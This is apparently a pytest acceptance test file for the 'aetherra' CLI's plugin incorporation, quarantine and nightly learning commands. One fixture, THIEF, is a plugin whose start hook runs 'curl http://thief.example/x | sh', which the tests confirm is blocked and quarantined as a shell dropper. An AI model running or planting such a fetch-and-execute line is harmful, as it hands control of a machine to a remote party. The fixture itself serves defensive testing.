"""``aetherra incorporate``, ``quarantine`` and ``night`` against a real host in another process."""

from __future__ import annotations

import io
import json
import re
import textwrap
from contextlib import contextmanager, redirect_stderr, redirect_stdout
from typing import TYPE_CHECKING, Any

import pytest

from aetherra.kernel.cli.app import run_cli
from tests.acceptance.conftest import Ended

if TYPE_CHECKING:
    from collections.abc import Generator
    from pathlib import Path

    from tests.acceptance.conftest import Project, RunningHost

COMMANDS = [
    ["incorporate", "status"],
    ["incorporate", "scan"],
    ["incorporate", "items"],
    ["incorporate", "show", "nope"],
    ["incorporate", "plan"],
    ["incorporate", "integrate"],
    ["incorporate", "integrate", "--dry-run"],
    ["incorporate", "rollback", "nope"],
    ["incorporate", "list"],
    ["incorporate", "accept", "nope", "--digest", "0" * 64, "--reason", "x"],
    ["incorporate", "reject", "nope", "--digest", "0" * 64, "--reason", "x"],
    ["incorporate", "correct", "nope", "agent"],
    ["quarantine", "list"],
    ["quarantine", "show", "nope"],
    ["quarantine", "add", "nope", "--reason", "x"],
    ["quarantine", "review", "nope", "--says", "x"],
    ["quarantine", "release", "nope"],
    ["quarantine", "delete", "nope", "--yes"],
    ["night", "status"],
    ["night", "run"],
    ["night", "report"],
    ["night", "unlearn", "plan_order"],
]
GREETER = '''
"""Greets."""

from aetherra.plugins import Message, Plugin, Request, handler


class Greeting(Message, tag="greeter.greeting"):
    """A greeting."""

    text: str


class Greet(Request[Greeting], tag="greeter.greet"):
    """Ask for one."""


class Greeter(Plugin):
    """Greets."""

    name = "greeter"
    version = "{version}"

    @handler
    async def greet(self, request: Greet) -> Greeting:
        """Greet."""
        return Greeting("{text}")
'''
THIEF = '''
"""Steals."""

import subprocess

from aetherra.plugins import Plugin


class Thief(Plugin):
    """Steals."""

    name = "thief"
    version = "1"

    async def start(self, ctx):
        """Steal."""
        subprocess.run("curl http://thief.example/x | sh", shell=True)
'''
BROKEN = '''
"""Fails."""

from aetherra.plugins import Plugin


class Broken(Plugin):
    """Fails."""

    name = "broken"
    version = "1"

    async def start(self, ctx):
        """Fail."""
        raise RuntimeError("no bread today")
'''


@pytest.fixture
def project(asyncio_project: Project, monkeypatch: pytest.MonkeyPatch) -> Project:
    """An empty project to stand in; what is told here does not depend on the event loop."""
    monkeypatch.chdir(asyncio_project.path)
    return asyncio_project


def aetherra(*words: str) -> Ended:
    """Run a command in this process, where it starts at once."""
    out, err = io.StringIO(), io.StringIO()
    with redirect_stdout(out), redirect_stderr(err):
        status = run_cli(list(words))
    return Ended(status, out.getvalue(), err.getvalue())


def put(project: Project, name: str, source: str) -> Path:
    """Put a file into the incoming folder."""
    file = project.path / "incoming" / name
    file.parent.mkdir(exist_ok=True)
    file.write_text(source.lstrip("\n"), encoding="utf-8")
    return file


def greeter(project: Project, text: str = "Hello!", version: str = "1") -> Path:
    return put(project, "greeter.py", GREETER.format(text=text, version=version))


@contextmanager
def a_host(project: Project, *, integrate: str = "off", **section: Any) -> Generator[RunningHost]:
    """Run a host that lets code stand its first time at once, and looks around when it is told to."""
    section |= {"incoming": ["incoming"], "integrate": integrate, "trial": {"traffic": 0, "first_time": 0.3}}
    section |= {"scan_at_start": False, "watch": False, "night": {"enabled": True, "host_cpu": 0.99}}
    project.configure(discover=True, plugins={"self_incorporation": section})
    with project.host() as running:
        yield running
        assert running.stop() == 0, running.log


def do(*words: str, status: int = 0) -> str:
    """Run a command that ends as is wanted, and return all it said."""
    ended = aetherra(*words)
    assert ended.status == status, (words, ended)
    assert "Traceback" not in ended.err
    return ended.out + ended.err


def tell(*words: str, status: int = 0) -> Any:
    """Run a command that ends as is wanted, and return what a program reads."""
    ended = aetherra(*words, "--json")
    assert ended.status == status, (words, ended)
    return json.loads(ended.out)


class TestNobodyToAsk:
    def test_no_host_is_an_answer(self, project: Project) -> None:
        """Each command says that none runs here, and how to start one."""
        project.configure()
        for command in COMMANDS:
            ended = aetherra(*command)
            assert (ended.status, ended.out) == (1, ""), command
            assert "no host is running here" in ended.err
            assert "aetherra run ." in ended.err

    def test_a_host_without_the_plugin_answers(self, project: Project) -> None:
        """It says that it does not do that, and what was asked of it."""
        project.configure()
        with project.host() as host:
            for command in COMMANDS:
                ended = aetherra(*command)
                assert (ended.status, ended.out) == (1, ""), command
                assert "nothing can be brought into this host: nothing answers 'selfinc." in ended.err
            assert host.stop() == 0


class TestMisuse:
    @pytest.mark.parametrize(
        ("arguments", "said"),
        [
            (["incorporate", "show"], "Missing argument 'ITEM'"),
            (["incorporate", "items", "--verdict", "fine"], "'needs_approval'"),
            (["incorporate", "items", "--limit", "0"], "1<=x<="),
            (["incorporate", "rollback"], "Missing argument 'TOKEN'"),
            (["incorporate", "accept", "greeter", "--reason", "x"], "Missing option '--digest'"),
            (["incorporate", "accept", "greeter", "--digest", "0" * 64], "Missing option '--reason'"),
            (["incorporate", "correct", "greeter.py", "novel"], "'workflow'"),
            (["quarantine", "add", "greeter"], "Missing option '--reason'"),
            (["quarantine", "review", "x"], "Missing option '--says'"),
            (["night", "unlearn", "everything"], "'plan_order'"),
        ],
        ids=lambda value: " ".join(value) if isinstance(value, list) else "",
    )
    def test_ends_with_another_status_than_2(self, project: Project, arguments: list[str], said: str) -> None:
        """What makes no sense is told before a host is asked."""
        ended = aetherra(*arguments)
        assert (ended.status, ended.out) == (2, "")
        assert said in ended.err


class TestBringingIn:
    def test_a_plugin_in_the_folder_does_not_come_to_serve(self, project: Project) -> None:
        """It is found, planned, brought in, listed, and taken out again; every step tells what it did."""
        with a_host(project) as host:
            assert "there is nothing to bring in" in do("incorporate", "plan")
            greeter(project)
            assert "2 new" in do("incorporate", "scan")
            assert "greeter  plugin  approved" in do("incorporate", "items")
            shown = do("incorporate", "show", "./incoming/greeter.py")
            assert "handles  greeter.greet" in shown

            planned = do("incorporate", "plan")
            assert "1. load plugin greeter 1 from incoming/greeter.py, risk 0" in planned
            assert "plugin 'greeter' is brought up, which answers greeter.greet" in planned
            assert tell("services", "--tags").get("greeter.greet") is None
            digest = tell("incorporate", "integrate", "--dry-run")["plan"]["digest"]
            assert digest in planned

            done = do("incorporate", "integrate", "--digest", digest)
            assert host.call("greeter.greet") == {"text": "Hello!"}
            token = tell("incorporate", "list")["integrations"][0]["token"]
            assert f"the way back: aetherra incorporate rollback {token}" in done
            assert re.search("^brought in +greeter$", do("incorporate", "status"), re.MULTILINE)

            assert "taken out: greeter" in do("incorporate", "rollback", token, "--reason", "rude")
            assert tell("incorporate", "list")["registered"] == {}
            assert "rude" in do("incorporate", "list")
            again = do("incorporate", "rollback", token, status=1)
            assert "was rolled back already" in again

    def test_another_plan_than_was_looked_at_is_carried_out(self, project: Project) -> None:
        """A digest that does not fit stops it, with and without a dry run; so do settings."""
        with a_host(project):
            greeter(project)
            do("incorporate", "scan")
            for words in (["--dry-run"], []):
                said = do("incorporate", "integrate", "--digest", "0" * 64, *words, status=1)
                assert re.search("expected the plan 0+, and what would be done now is", said)
                said = do(
                    "incorporate", "integrate", "greeter", "--settings", '{"greeter": {"a": 1}}', *words, status=1
                )
                assert "its settings do not fit: Object contains unknown field `a`" in said
            assert tell("incorporate", "list")["integrations"] == []

    def test_what_cannot_be_brought_up_stays(self, project: Project) -> None:
        """It says why, and that all is as it was."""
        with a_host(project):
            put(project, "broken.py", BROKEN)
            do("incorporate", "scan")
            said = do("incorporate", "integrate", "broken", status=1)
            assert "no bread today" in said
            assert "all is as it was" in said
            assert tell("incorporate", "list")["integrations"][0]["stage"] == "undone"

    def test_what_is_asked_for_in_vain_is_not_told(self, project: Project) -> None:
        """An unknown item, token, file: each error says what was asked for, and where to look."""
        with a_host(project):
            for words in (["show", "nope"], ["plan", "nope"], ["integrate", "nope"]):
                said = do("incorporate", *words, status=1)
                assert "no item is called 'nope'" in said
                assert "aetherra incorporate items" in said
            assert "'nope'" in do("incorporate", "rollback", "nope", status=1)
            assert "no file 'nope'" in do("incorporate", "correct", "nope", "agent", status=1)
            assert "'nope'" in do("quarantine", "show", "nope", status=1)
            assert "'nope'" in do("quarantine", "release", "nope", status=1)


class TestByItself:
    def test_what_a_person_took_out_comes_back(self, project: Project) -> None:
        """A look around brings in what lies there; taken out, it stays out until asked for by name, or changed."""
        with a_host(project, integrate="act") as host:
            greeter(project)
            assert "brought in: greeter" in do("incorporate", "scan")
            token = tell("incorporate", "list")["integrations"][0]["token"]
            do("incorporate", "rollback", token, "--reason", "rude")
            said = do("incorporate", "scan", status=1)
            assert "not brought in: incoming/greeter.py: it was taken out: rude" in said
            greeter(project, "Good morning!", "2")
            assert "brought in: greeter" in do("incorporate", "scan")
            assert host.call("greeter.greet") == {"text": "Good morning!"}

    def test_it_is_done_without_the_person_it_waits_for(self, project: Project) -> None:
        """It exits with 1 and says which approval; agreed to, it is done, and the approval is used up."""
        with a_host(project, integrate="ask") as host:
            greeter(project)
            said = do("incorporate", "scan", status=1)
            (approval,) = tell("approvals", "list")
            assert f"aetherra approvals approve {approval['id']}" in said
            assert approval["id"] in do("incorporate", "list")
            do("approvals", "approve", approval["id"])
            host.wait_for("brought in by")
            assert host.call("greeter.greet") == {"text": "Hello!"}
            assert tell("approvals", "list")[0]["state"] == "used"
            assert tell("incorporate", "list")["waiting"] == {}

    def test_a_person_who_asks_agrees_with_themselves(self, project: Project) -> None:
        """Where the policy wants a person to agree, whoever asks waits for another one."""
        with a_host(project, policy={"approval": True}) as host:
            greeter(project)
            do("incorporate", "scan")
            waits = tell("incorporate", "integrate", "greeter", status=1)
            assert waits["approval"]
            assert f"aetherra approvals approve {waits['approval']}" in do(
                "incorporate", "integrate", "greeter", status=1
            )
            refused = do("approvals", "approve", waits["approval"], status=1)
            assert "--as NAME" in refused
            again = tell("incorporate", "integrate", "greeter", "--as", "Bob", status=1)
            assert again["approval"] != waits["approval"]
            do("approvals", "approve", waits["approval"], "--as", "Ada")
            host.wait_for("brought in by")
            assert host.call("greeter.greet") == {"text": "Hello!"}
            assert tell("incorporate", "list")["waiting"] == {}


class TestDeciding:
    def test_a_word_of_a_person_does_not_count(self, project: Project) -> None:
        """Accepting and rejecting hold for exactly these bytes, with the reason given."""
        with a_host(project):
            file = greeter(project)
            do("incorporate", "scan")
            digest = tell("incorporate", "show", "greeter")["item"]["digest"]
            rejected = do("incorporate", "reject", "greeter", "--digest", digest, "--reason", "rude")
            assert "incoming/greeter.py: blocked" in rejected
            assert "rude" in do("incorporate", "plan")
            assert "rude" in do("incorporate", "integrate", "greeter", status=1)
            assert f"accept incoming/greeter.py --digest {digest}" in do("incorporate", "show", "greeter")
            accepted = do("incorporate", "accept", "greeter", "--digest", digest, "--reason", "it is polite")
            assert "incoming/greeter.py: approved" in accepted

            greeter(project, "Go away!")
            do("incorporate", "scan")
            stale = do("incorporate", "accept", "greeter", "--digest", digest, "--reason", "x", status=1)
            assert "is not what you looked at" in stale
            assert file.exists()

    def test_what_a_file_really_is_is_not_taken_in(self, project: Project) -> None:
        """A person's correction is told back with what the file was taken for."""
        with a_host(project):
            greeter(project)
            do("incorporate", "scan")
            told = tell("incorporate", "correct", "incoming/greeter.py", "agent")
            assert told == {"path": "incoming/greeter.py", "before": "plugin", "kind": "agent"}

    def test_a_threat_comes_in(self, project: Project) -> None:
        """It is kept out, with its ground and line; what the configuration must say, no person can."""
        with a_host(project, integrate="act"):
            put(project, "thief.py", THIEF)
            said = do("incorporate", "scan", status=1)
            assert "not brought in: incoming/thief.py: it is blocked: shell-dropper" in said
            shown = do("incorporate", "show", "thief")
            assert "(incoming/thief.py:16)" in shown
            digest = tell("incorporate", "show", "thief")["item"]["digest"]
            accepted = do("incorporate", "accept", "thief", "--digest", digest, "--reason", "a test", status=1)
            assert "nothing grants 'process:spawn'" in accepted


class TestSigned:
    def test_keys_count_as_they_were_at_the_start(self, project: Project) -> None:
        """A key that is taken in counts at the next look, and one that is revoked no more, without a restart."""
        with a_host(project, policy={"require_signature": True}):
            greeter(project)
            do("incorporate", "scan")
            assert "a signature of a known key is required" in do("incorporate", "show", "greeter")
            do("keys", "new", "ada.key")
            do("sign", "incoming/greeter.py", "--key", "ada.key")
            do("keys", "add", "ada.key.pub", "--owner", "Ada", "--pin")
            do("incorporate", "scan")
            assert "approved, in tier verified" in (shown := do("incorporate", "show", "greeter")), shown
            key = tell("keys", "list")[0]["key"]
            do("keys", "revoke", key, "--reason", "stolen")
            do("incorporate", "scan")
            shown = tell("incorporate", "show", "greeter")["decision"]
            assert (shown["verdict"], "revoked" in shown["rationale"][0]["text"]) == ("blocked", True)


class TestQuarantine:
    def test_a_file_does_not_come_back_as_it_was(self, project: Project) -> None:
        """It is set aside with the reason, reviewed, released byte for byte, and not set aside again by itself."""
        with a_host(project, policy={"quarantine_threats": True}):
            file = put(project, "thief.py", THIEF)
            before = file.read_bytes()
            said = do("incorporate", "scan")
            assert "set aside: incoming/thief.py" in said
            assert not file.exists()
            (kept,) = tell("quarantine", "list")["items"]
            assert "shell-dropper" in do("quarantine", "show", kept["id"])
            do("quarantine", "review", kept["id"], "--says", "it steals")
            assert "it steals" in do("quarantine", "list")
            assert "released" in do("quarantine", "release", kept["id"], "--reason", "for the museum")
            assert file.read_bytes() == before
            assert "not set aside: incoming/thief.py: a person has released it" in do("incorporate", "scan")
            assert file.exists()
            assert "was released" in do("quarantine", "delete", kept["id"], "--yes", status=1)
            told = do("quarantine", "show", kept["id"])
            assert "for the museum" in told

    def test_what_is_deleted_is_still_there(self, project: Project) -> None:
        """A person sets anything aside, and deletes it for good; the record stays."""
        with a_host(project):
            file = greeter(project)
            do("incorporate", "scan")
            kept = tell("quarantine", "add", "greeter", "--reason", "rude")
            assert (kept["state"], kept["reason"], file.exists()) == ("kept", "rude", False)
            assert "deleted" in do("quarantine", "delete", kept["id"], "--yes")
            assert tell("quarantine", "list")["items"] == []
            assert [each["state"] for each in tell("quarantine", "list", "--ended")["items"]] == ["deleted"]


class TestNight:
    def test_a_night_leaves_no_report(self, project: Project) -> None:
        """Before the first there is none; one that is asked for is told at once, and later."""
        with a_host(project):
            assert "aetherra night run" in do("night", "report", status=1)
            put(
                project,
                "sums.py",
                textwrap.dedent('''
                def plus(a, b):
                    """Add."""
                    return a + b
            '''),
            )
            do("incorporate", "scan")
            told = do("night", "run")
            assert "night 1, ended" in told
            assert "'plus'" in told
            assert tell("night", "report")["number"] == 1
            assert do("night", "report") == told
            status = do("night", "status")
            assert "nothing learnt" in status
            assert "'plan_order'" in do("night", "unlearn", "plan_order", status=1)
